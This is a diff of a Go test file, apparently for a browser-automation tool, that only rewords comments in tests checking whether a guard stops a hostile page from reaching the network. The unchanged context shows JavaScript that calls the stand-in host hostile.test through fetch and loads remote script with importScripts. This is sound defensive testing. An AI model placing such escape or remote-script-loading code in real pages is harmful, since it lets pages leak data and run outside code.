@@ -34,8 +34,8 @@ fetch("https://" + name + "-worker.hostile.test/", {mode: "no-cors"}).catch(() =
 try { importScripts("https://" + name + "-import.hostile.test/a.js"); } catch {}
 `
 
-// patienceLimit is longer than the page's own patience, in which it lets what it
-// has begun come to something.
+// patienceLimit is longer than the page's own patience, which is how long it waits for
+// what it has begun.
 const patienceLimit = 2 * time.Minute
 
 // hostileSite is a plex.tv whose pages try every way out. Under its own name a
@@ -48,7 +48,7 @@ func hostileSite(t *testing.T) *netSite {
 	}
 	patience := "1000"
 	if *thorough {
-		patience = "70000" // the browser's own errands have delays of up to a minute
+		patience = "70000" // the browser's own requests come with delays of up to a minute
 	}
 	text = bytes.ReplaceAll(text, []byte("PATIENCE"), []byte(patience))
 	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -119,9 +119,9 @@ func TestHostilePage(t *testing.T) {
 	t.Run("without a guard", hostileVisitUnguarded)
 }
 
-// hostileVisitUnguarded shows that the page does get out where nothing keeps it
-// in, and that the tap sees it: without it the others could pass on a page that
-// is broken.
+// hostileVisitUnguarded shows that the page does reach the network without a guard, and
+// that the tap sees it: without this, the other tests could pass because the page is
+// broken.
 func hostileVisitUnguarded(t *testing.T) {
 	s := hostileSite(t)
 	w := tapWire(t)
@@ -168,7 +168,7 @@ func hostileBrowsers(t *testing.T) map[string]string {
 	return map[string]string{filepath.Base(path): path}
 }
 
-// hostileBrowser is a whole browser, which has errands of its own.
+// hostileBrowser is a full browser, which sends requests of its own.
 func hostileBrowser(t *testing.T) string {
 	t.Helper()
 	path, _, err := FindBrowser(FindOptions{Headed: true})
@@ -241,7 +241,7 @@ func hostileVisit(t *testing.T, s *netSite, o Options) *Browser {
 	}
 	clickAnywhere(t, tab.ctx)
 	eventuallyWithin(t, patienceLimit, "the page has tried everything", func() bool { return s.hasArrived("/read/tried") })
-	// Beacons are sent when a page is left; the next one leads away by itself.
+	// Beacons are sent when a page is left; the next page navigates away by itself.
 	if _, err := tab.Goto(t.Context(), "https://www.plex.tv/away"); err != nil {
 		t.Fatal(err)
 	}
